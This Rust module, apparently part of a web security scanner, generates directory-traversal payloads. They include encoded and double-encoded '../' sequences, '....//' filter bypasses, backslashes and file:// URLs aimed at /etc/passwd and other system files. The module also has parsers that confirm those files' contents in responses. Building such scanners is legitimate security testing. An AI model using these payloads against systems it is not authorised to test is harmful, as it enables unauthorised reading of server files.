//! Ways out of a served directory, and the grammars by which a file of the system is known.

use super::Input;

/// One way to name a file outside of the served directory.
#[derive(Debug, Clone, Copy)]
pub(crate) struct Technique {
    /// What reports call it.
    pub(crate) name: &'static str,
    /// What climbs one directory; empty for an absolute path.
    up: &'static str,
    /// What stands for the slash within the path.
    slash: &'static str,
    /// What stands before all of it.
    before: Before,
}

#[derive(Debug, Clone, Copy, PartialEq)]
enum Before {
    Nothing,
    /// A part that the service expects at the beginning.
    FirstPart,
    /// The scheme of RFC 8089.
    FileScheme,
}

/// A served directory is seldom deeper; above the root `..` stays where it is.
const DEPTH: usize = 10;

impl Technique {
    /// The value that names `file`, an absolute path. `example` is what the input holds unchanged.
    pub(crate) fn value(&self, file: &str, example: Option<&str>) -> String {
        let relative = file.trim_start_matches('/').replace('/', self.slash);
        match self.before {
            Before::FileScheme => format!("file://{file}"),
            Before::Nothing if self.up.is_empty() => format!("{}{relative}", self.slash),
            Before::Nothing => format!("{}{relative}", self.up.repeat(DEPTH)),
            Before::FirstPart => {
                let first =
                    example.and_then(|example| example.split('/').find(|part| !part.is_empty()));
                let first = first.unwrap_or("files");
                format!("{first}{}{}{relative}", self.slash, self.up.repeat(DEPTH))
            }
        }
    }
}

const fn technique(name: &'static str, up: &'static str, slash: &'static str) -> Technique {
    Technique {
        name,
        up,
        slash,
        before: Before::Nothing,
    }
}

/// In a part of the path, as it stands on the request line.
const IN_PATH: [Technique; 7] = [
    technique("`..` with encoded slashes", "..%2f", "%2f"),
    technique("`..` as it stands", "../", "/"),
    technique("an encoded absolute path", "", "%2f"),
    technique("encoded dots and slashes", "%2e%2e%2f", "%2f"),
    technique("an absolute path", "", "/"),
    technique("slashes that are encoded twice", "..%252f", "%252f"),
    technique(
        "`....//`, of which one pass leaves `../`",
        "....%2f%2f",
        "%2f",
    ),
];

/// In a query or a body, where the usual encoding is put on top.
const IN_TEXT: [Technique; 6] = [
    technique("`../`", "../", "/"),
    technique("an absolute path", "", "/"),
    technique("`....//`, of which one pass leaves `../`", "....//", "/"),
    Technique {
        name: "`../` below the expected beginning",
        up: "../",
        slash: "/",
        before: Before::FirstPart,
    },
    technique("slashes that are encoded twice", "..%2f", "%2f"),
    technique("backslashes", "..\\", "\\"),
];

/// The `file:` scheme, for what takes a URL.
const FILE_URL: Technique = Technique {
    name: "a `file:` URL",
    up: "",
    slash: "/",
    before: Before::FileScheme,
};

/// The ways that fit `input`, the likely ones first.
pub(crate) fn techniques(input: &Input) -> Vec<Technique> {
    if input.in_path() {
        return IN_PATH.to_vec();
    }
    let mut all = IN_TEXT.to_vec();
    if input.named(&["url", "uri", "href", "link"])
        || input
            .example
            .as_deref()
            .is_some_and(|text| text.contains("://"))
    {
        all.insert(0, FILE_URL);
    }
    all
}

/// A file that is on nearly every Linux system, and how its content is known.
#[derive(Clone, Copy)]
pub(crate) struct KnownFile {
    /// Where it is.
    pub(crate) path: &'static str,
    /// The telling part of its content.
    pub(crate) telling: fn(&str) -> Option<String>,
}

/// Files with a grammar of their own, the most telling first.
pub(crate) const KNOWN_FILES: [KnownFile; 4] = [
    KnownFile {
        path: "/etc/passwd",
        telling: passwd_line,
    },
    KnownFile {
        path: "/etc/os-release",
        telling: os_release,
    },
    KnownFile {
        path: "/proc/self/status",
        telling: proc_status,
    },
    KnownFile {
        path: "/etc/hostname",
        telling: host_name,
    },
];

/// The line of the superuser in the format of passwd(5).
pub(crate) fn passwd_line(text: &str) -> Option<String> {
    text.match_indices("root:").find_map(|(at, _)| {
        let alone = !text[..at].ends_with(|c: char| c.is_alphanumeric() || c == ':');
        let line = text[at..]
            .split(['\n', '\r', '<', '"'])
            .next()
            .unwrap_or_default();
        let fields: Vec<&str> = line.split(':').collect();
        let fits = fields.len() == 7
            && fields[2] == "0"
            && fields[3] == "0"
            && fields[5].starts_with('/')
            && (fields[6].is_empty() || fields[6].starts_with('/'));
        (alone && fits).then(|| line.to_owned())
    })
}

/// The identification in os-release(5).
fn os_release(text: &str) -> Option<String> {
    let line = |key: &str| {
        text.lines().map(str::trim).find(|line| {
            line.strip_prefix(key)
                .is_some_and(|rest| rest.starts_with('=') && rest.len() > 1)
        })
    };
    line("NAME").or_else(|| line("PRETTY_NAME"))?;
    line("ID").map(str::to_owned)
}

/// A process's status in proc(5).
fn proc_status(text: &str) -> Option<String> {
    let line = |key: &str| {
        text.lines().find(|line| {
            line.strip_prefix(key)
                .is_some_and(|rest| rest.starts_with(":\t"))
        })
    };
    line("Pid")?;
    line("Threads").or_else(|| line("CapEff"))?;
    line("Uid").map(str::to_owned)
}

/// One line that can be the name of a host.
fn host_name(text: &str) -> Option<String> {
    let name = text.strip_suffix('\n').unwrap_or(text);
    let fits = (1..=64).contains(&name.len())
        && name
            .bytes()
            .all(|byte| byte.is_ascii_alphanumeric() || matches!(byte, b'-' | b'.'))
        && name.starts_with(|c: char| c.is_ascii_alphanumeric());
    fits.then(|| name.to_owned())
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    #[test]
    fn a_value_climbs_out_and_names_the_file() {
        assert_eq!(
            IN_PATH[0].value("/etc/passwd", None),
            format!("{}etc%2fpasswd", "..%2f".repeat(10))
        );
        assert_eq!(IN_PATH[2].value("/etc/passwd", None), "%2fetc%2fpasswd");
        assert_eq!(IN_TEXT[1].value("/etc/passwd", None), "/etc/passwd");
        assert_eq!(
            IN_TEXT[3].value("/etc/passwd", Some("out/log.txt")),
            format!("out/{}etc/passwd", "../".repeat(10))
        );
        assert_eq!(FILE_URL.value("/etc/passwd", None), "file:///etc/passwd");
    }

    #[test]
    fn only_the_grammar_of_a_file_is_that_file() {
        assert!(passwd_line("root:x:0:0:root:/root:/bin/bash\n").is_some());
        assert!(passwd_line("<pre>root::0:0::/:/sbin/nologin</pre>").is_some());
        for text in [
            "root:x:0:0",
            "the root: user",
            "toor:x:0:0:root:/root:/bin/sh",
            "xroot:x:0:0:r:/root:/bin/sh",
        ] {
            assert_eq!(passwd_line(text), None, "{text}");
        }
        assert_eq!(
            os_release("NAME=\"Alpine\"\nID=alpine\n").as_deref(),
            Some("ID=alpine")
        );
        assert_eq!(os_release("ID=5\nprice=3"), None);
        assert!(proc_status("Name:\tapi\nPid:\t7\nUid:\t0\t0\t0\t0\nThreads:\t1\n").is_some());
        assert_eq!(host_name("3f2a9c\n").as_deref(), Some("3f2a9c"));
        assert_eq!(host_name("not found"), None);
    }

    proptest! {
        #[test]
        fn no_text_makes_the_grammars_panic(text in "\\PC*") {
            let _ = (passwd_line(&text), os_release(&text), proc_status(&text), host_name(&text));
        }
    }
}
